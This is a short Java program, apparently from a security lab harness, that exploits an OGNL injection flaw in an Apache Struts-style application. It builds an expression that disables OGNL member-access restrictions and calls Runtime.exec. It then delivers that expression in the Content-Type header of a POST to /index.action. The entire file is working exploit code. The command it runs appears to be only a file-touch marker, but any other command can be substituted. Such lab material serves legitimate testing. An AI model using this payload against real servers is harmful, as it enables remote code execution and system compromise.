import whorl.lab.attack.Attacker;

public class Attack {
  public static void main(String[] args) throws Exception {
    String expression =
        "%{(#x='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)"
            + ".(#_memberAccess?(#_memberAccess=#dm):((#c=#context['com.opensymphony.xwork2.ActionContext.container'])"
            + ".(#u=#c.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))"
            + ".(#u.getExcludedPackageNames().clear()).(#u.getExcludedClasses().clear())"
            + ".(#context.setMemberAccess(#dm)))).(@java.lang.Runtime@getRuntime().exec('"
            + Attacker.touch()
            + "'))}";
    Attacker.post("/index.action", "x", "Content-Type", expression);
    Attacker.done();
  }
}
